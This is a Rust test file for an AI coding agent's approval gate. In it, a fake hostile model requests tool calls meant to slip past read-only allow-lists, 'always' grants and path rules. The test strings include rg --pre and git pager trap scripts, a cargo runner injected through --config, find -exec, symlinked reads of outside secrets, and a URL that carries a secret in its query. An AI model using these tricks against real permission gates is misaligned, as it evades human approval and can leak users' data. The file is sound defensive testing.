//! Attacks on the approval gate (issue 12 §4, §6, §7, §8; issue 13 §4): a hostile model asks
//! for tool calls that a read-only allow-list, an "always" grant or a path rule must not let
//! through. Each runs the real binary against the fake model and checks that nothing ran or
//! was written without a person.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::common::*;
use crate::support::{FakeModel, Harness, Reply, Running};

fn is_request(e: &Value) -> bool {
    e["kind"] == "permission" && e["data"].get("resolved").is_none()
}

/// An executable script at `path` that creates `marker` (absolute) when it runs.
fn trap(path: &Path, marker: &Path) {
    std::fs::write(
        path,
        format!(
            "#!/bin/sh\ntouch '{}'\ncat \"$@\" 2>/dev/null\n",
            marker.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn git_init(dir: &Path) {
    let status = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(dir)
        .status()
        .unwrap();
    assert!(status.success());
}

/// Runs one shell call under `-p auto` with nobody to ask; returns the call's error text.
async fn auto_shell(h: &Harness, command: &str) -> String {
    auto_shell_in(h, command, None).await
}

async fn auto_shell_in(h: &Harness, command: &str, cwd: Option<&str>) -> String {
    let server = FakeModel::start().await;
    let mut args = json!({ "command": command });
    if let Some(cwd) = cwd {
        args["cwd"] = json!(cwd);
    }
    let args = args.to_string();
    server.push(Reply::new().tool_call("c1", "shell", &args));
    server.push(Reply::new().text("done"));
    let out = openai_run(h, &server, "go")
        .args(["-p", "auto"])
        .run()
        .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    let result = &out.of_kind("tool_result")[0]["data"]["result"];
    result["error"].as_str().unwrap_or_default().to_owned()
}

fn assert_needs_a_person(error: &str, command: &str) {
    assert!(
        error.contains("needs a person's approval"),
        "{command}: ran without a person: {error:?}"
    );
}

#[tokio::test]
async fn auto_does_not_run_a_preprocessor_through_rg_pre() {
    let h = Harness::new();
    let marker = h.work().join("pwned");
    trap(&h.work().join("evil"), &marker);
    std::fs::write(h.work().join("a.txt"), "TODO\n").unwrap();
    for command in ["rg --pre ./evil TODO a.txt", "rg --pre=./evil TODO a.txt"] {
        let error = auto_shell(&h, command).await;
        assert_needs_a_person(&error, command);
        assert!(!marker.exists(), "{command} ran the preprocessor");
    }
}

#[tokio::test]
async fn auto_judges_redirections_by_kind() {
    let h = Harness::new();
    for (command, file) in [
        ("echo x > 1", "1"),
        ("echo x > -", "-"),
        ("ls >> appended", "appended"),
        ("ls &> both", "both"),
        ("ls >| clobbered", "clobbered"),
        ("cat <> rw", "rw"),
    ] {
        let error = auto_shell(&h, command).await;
        assert_needs_a_person(&error, command);
        assert!(!h.work().join(file).exists(), "{command} wrote {file}");
    }
    // Descriptor duplication and /dev/null still run on their own.
    let error = auto_shell(&h, "ls 2>&1 >/dev/null").await;
    assert_eq!(error, "", "harmless redirections run");
}

#[tokio::test]
async fn auto_does_not_let_git_write_through_output_options() {
    let h = Harness::new();
    git_init(&h.work());
    std::fs::write(h.work().join("a.txt"), "a\n").unwrap();
    for command in [
        "git diff --output=out.txt",
        "git diff --out=out.txt",
        "git log --output=out.txt",
        "git -c core.pager=./evil log",
        "git -C .. status",
    ] {
        let error = auto_shell(&h, command).await;
        assert_needs_a_person(&error, command);
        assert!(!h.work().join("out.txt").exists(), "{command} wrote a file");
    }
    let error = auto_shell(&h, "git status --short").await;
    assert_eq!(error, "", "plain git status still runs");
}

#[tokio::test]
async fn auto_does_not_run_project_code_through_cargo() {
    let h = Harness::new();
    let marker = h.work().join("build-script-ran");
    std::fs::write(
        h.work().join("Cargo.toml"),
        "[package]\nname = \"trap\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::create_dir_all(h.work().join("src")).unwrap();
    std::fs::write(h.work().join("src/lib.rs"), "").unwrap();
    std::fs::write(
        h.work().join("build.rs"),
        format!(
            "fn main() {{ std::fs::write({:?}, \"x\").unwrap(); }}\n",
            marker.display().to_string()
        ),
    )
    .unwrap();
    for command in ["cargo check", "cargo check --offline", "cargo metadata"] {
        let error = auto_shell(&h, command).await;
        assert_needs_a_person(&error, command);
        assert!(!marker.exists(), "{command} ran build.rs");
    }
}

#[tokio::test]
async fn auto_asks_before_reading_outside_the_root() {
    let h = Harness::new();
    let secret = h.home_dir().join("outside-secret.txt");
    std::fs::write(&secret, "SECRET-OUTSIDE-ROOT\n").unwrap();
    std::os::unix::fs::symlink(&secret, h.work().join("link")).unwrap();
    for command in [
        "cat ../outside-secret.txt",
        "cat link",
        "cat *",
        "cat {a,../outside-secret.txt}",
        "cat < ../outside-secret.txt",
        &format!("cat {}", secret.display()),
        "head -n 1 ~/outside-secret.txt",
    ] {
        let error = auto_shell(&h, command).await;
        assert_needs_a_person(&error, command);
        assert!(!error.contains("SECRET-OUTSIDE-ROOT"));
    }
    // Relative paths start from the call's cwd, where the link is.
    std::fs::create_dir_all(h.work().join("sub")).unwrap();
    std::fs::rename(h.work().join("link"), h.work().join("sub/link")).unwrap();
    let error = auto_shell_in(&h, "cat link", Some("sub")).await;
    assert_needs_a_person(&error, "cat link in sub");
    assert!(!error.contains("SECRET-OUTSIDE-ROOT"));
}

#[tokio::test]
async fn a_word_with_a_space_is_not_the_program_it_starts_with() {
    let h = Harness::new();
    let marker = h.work().join("pwned");
    // `echo\ /../evil` is one word: bash runs it as the path `echo /../evil`, which is
    // `./evil` once a directory named `echo ` exists.
    std::fs::create_dir_all(h.work().join("echo ")).unwrap();
    trap(&h.work().join("evil"), &marker);
    let command = r"echo\ /../evil hello";
    let error = auto_shell(&h, command).await;
    assert_needs_a_person(&error, command);
    assert!(!marker.exists(), "the joined words matched `echo *`");
}

#[tokio::test]
async fn path_rules_see_through_a_symlink_into_git() {
    // `.git` itself is refused by the file tools in every preset before any rule is read
    // (git_attacks.rs); the gate's own path rules must see through links as well, so a
    // preset that denies another directory is what is tested here.
    let h = Harness::new();
    std::fs::create_dir(h.work().join("private")).unwrap();
    std::os::unix::fs::symlink("private", h.work().join("docs")).unwrap();
    let preset = h.home_dir().join("guarded.toml");
    std::fs::write(
        &preset,
        "description = \"moderate tools run, private/ is off limits\"\n\
         auto_approve = \"moderate\"\n\
         [[rules]]\ntool = \"write_file\"\ndeny = [\"private\", \"private/**\"]\n",
    )
    .unwrap();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call(
        "c1",
        "write_file",
        r#"{"path":"docs/config","content":"planted"}"#,
    ));
    server.push(Reply::new().text("done"));
    let out = openai_run(&h, &server, "go")
        .args(["-p", preset.to_str().unwrap()])
        .run()
        .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    let error = out.of_kind("tool_result")[0]["data"]["result"]["error"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(error.contains("denied by the preset rule"), "{error:?}");
    assert!(!h.work().join("private/config").exists());
}

/// `corral run --approve-stdin` with two shell calls: the first is answered `allow_all`; the
/// second must come back as a new request (answered `deny`), not run on the grant.
async fn grant_then(h: &Harness, first: &str, second: &str) -> (Value, Option<Value>) {
    let server = FakeModel::start().await;
    for (id, command) in [("c1", first), ("c2", second)] {
        let args = json!({ "command": command }).to_string();
        server.push(Reply::new().tool_call(id, "shell", &args));
    }
    server.push(Reply::new().text("done"));
    let mut running: Running = openai_run(h, &server, "go")
        .args(["--approve-stdin"])
        .live_stdin()
        .spawn()
        .await;
    let request = running.wait_for_event(0, is_request).await;
    let id = request["data"]["requestId"].as_str().unwrap().to_owned();
    running
        .send_line(&json!({"requestId": id, "decision": "allow_all"}).to_string())
        .await;
    let next = running
        .wait_for_event(1, |e| is_request(e) || e["kind"] == "result")
        .await;
    let second_request = is_request(&next).then(|| next.clone());
    if let Some(req) = &second_request {
        let id = req["data"]["requestId"].as_str().unwrap().to_owned();
        running
            .send_line(&json!({"requestId": id, "decision": "deny"}).to_string())
            .await;
    }
    let out = running.wait().await;
    // 1: every call of the turn failed in the sandbox (cargo without its toolchain home here).
    assert!(matches!(out.code, Some(0 | 1)), "{out:?}");
    (request["data"].clone(), second_request)
}

fn offers_always(request: &Value) -> bool {
    request["options"]
        .as_array()
        .unwrap()
        .iter()
        .any(|o| o["optionId"] == "allow_all")
}

#[tokio::test]
async fn always_for_find_does_not_cover_find_exec() {
    let h = Harness::new();
    std::fs::write(h.work().join("a.txt"), "a").unwrap();
    let (first, second) =
        grant_then(&h, "find . -name '*.txt'", "find . -exec touch pwned ';'").await;
    assert!(!offers_always(&first), "{first}");
    assert_eq!(first["always"]["offered"], false);
    assert_eq!(
        first["always"]["scope"],
        "always is not offered: find can run other programs or code"
    );
    assert!(second.is_some(), "find -exec ran on the grant");
    assert!(!h.work().join("pwned").exists());
}

#[tokio::test]
async fn always_for_a_wrapper_does_not_cover_what_it_wraps() {
    let h = Harness::new();
    let (first, second) = grant_then(&h, "timeout 10 ls", "timeout 10 touch pwned").await;
    assert!(!offers_always(&first), "{first}");
    assert!(second.is_some(), "timeout 10 touch ran on the grant");
    assert!(!h.work().join("pwned").exists());
}

#[tokio::test]
async fn always_for_ls_does_not_cover_a_script_named_ls() {
    let h = Harness::new();
    let marker = h.work().join("pwned");
    trap(&h.work().join("ls"), &marker);
    let (first, second) = grant_then(&h, "ls -la", "./ls").await;
    assert!(offers_always(&first));
    let scope = first["always"]["scope"].as_str().unwrap();
    assert!(
        scope.starts_with("always: `ls` with any arguments, run as /"),
        "{scope}"
    );
    let second = second.expect("./ls ran on the grant for ls");
    assert!(!offers_always(&second["data"]), "{second}");
    assert!(!marker.exists());
}

/// Configures `open_url_command` as a script that only logs the URL it is given; returns the
/// log, which exists once a URL was opened.
fn logging_opener(h: &Harness) -> PathBuf {
    let log = h.home_dir().join("opened.log");
    let opener = h.home_dir().join("opener");
    std::fs::write(
        &opener,
        format!("#!/bin/sh\nprintf '%s\\n' \"$1\" >> '{}'\n", log.display()),
    )
    .unwrap();
    std::fs::set_permissions(&opener, std::fs::Permissions::from_mode(0o755)).unwrap();
    h.write_config(&format!("open_url_command = \"{} %s\"\n", opener.display()));
    log
}

#[tokio::test]
async fn auto_asks_before_a_url_carries_a_secret_away() {
    let h = Harness::new();
    let log = logging_opener(&h);
    std::fs::write(h.work().join("secret.txt"), "TOPSECRET\n").unwrap();
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call("c1", "shell", r#"{"command":"cat secret.txt"}"#));
    server.push(Reply::new().tool_call(
        "c2",
        "open_url",
        r#"{"url":"http://127.0.0.1:9/?q=TOPSECRET"}"#,
    ));
    // The desktop tools' half of this is in desktop.rs: they are offered only with a desktop.
    server.push(Reply::new().text("done"));
    let out = openai_run(&h, &server, "go")
        .args(["-p", "auto"])
        .run()
        .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    let results = out.of_kind("tool_result");
    assert_eq!(results[0]["data"]["result"]["success"], true, "cat ran");
    for result in &results[1..] {
        let error = result["data"]["result"]["error"]
            .as_str()
            .unwrap_or_default();
        assert_needs_a_person(error, "open_url");
    }
    assert!(!log.exists(), "the URL was opened");
}

#[tokio::test]
async fn network_off_refuses_open_url() {
    let h = Harness::new();
    let log = logging_opener(&h);
    let server = FakeModel::start().await;
    server.push(Reply::new().tool_call("c1", "open_url", r#"{"url":"http://127.0.0.1:9/"}"#));
    server.push(Reply::new().text("done"));
    let out = openai_run(&h, &server, "go")
        .args([
            "-p",
            "bypass",
            "--sandbox",
            "best-effort",
            "--network",
            "off",
        ])
        .run()
        .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    let error = out.of_kind("tool_result")[0]["data"]["result"]["error"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(error.contains("network is off"), "{error:?}");
    assert!(!log.exists(), "the URL was opened with the network off");
}

#[tokio::test]
async fn doctor_reports_the_gate() {
    let h = Harness::new();
    let out = h.corral().arg("doctor").run().await;
    assert_eq!(out.code, Some(0), "{out:?}");
    let line = |what: &str| {
        out.stdout
            .lines()
            .find(|l| l.contains(what))
            .unwrap_or_else(|| panic!("{what}: {}", out.stdout))
            .to_owned()
    };
    assert!(line("gate: programs:").starts_with("ok"));
    let read_only = line("gate: read-only commands:");
    assert!(
        read_only.contains("open_url is refused with --network off"),
        "{read_only}"
    );
    let h = Harness::new();
    let out = h
        .corral()
        .arg("doctor")
        .env("PATH", "bin:/usr/bin:/bin")
        .run()
        .await;
    let programs = out
        .stdout
        .lines()
        .find(|l| l.contains("gate: programs:"))
        .unwrap();
    assert!(
        programs.starts_with("warn") && programs.contains("\"bin\""),
        "{programs}"
    );
}

#[tokio::test]
async fn always_for_cargo_test_does_not_cover_a_runner_from_the_command_line() {
    let h = Harness::new();
    let runner =
        r#"cargo test --config 'target.x86_64-unknown-linux-gnu.runner=["sh","-c","touch pwned"]'"#;
    let (first, second) = grant_then(&h, "cargo test -q", runner).await;
    assert!(offers_always(&first), "{first}");
    let scope = first["always"]["scope"].as_str().unwrap();
    assert!(scope.contains("except --config, -Z"), "{scope}");
    let second = second.expect("cargo test --config ran on the grant for cargo test");
    assert!(!offers_always(&second["data"]), "{second}");
    assert!(!h.work().join("pwned").exists());
}
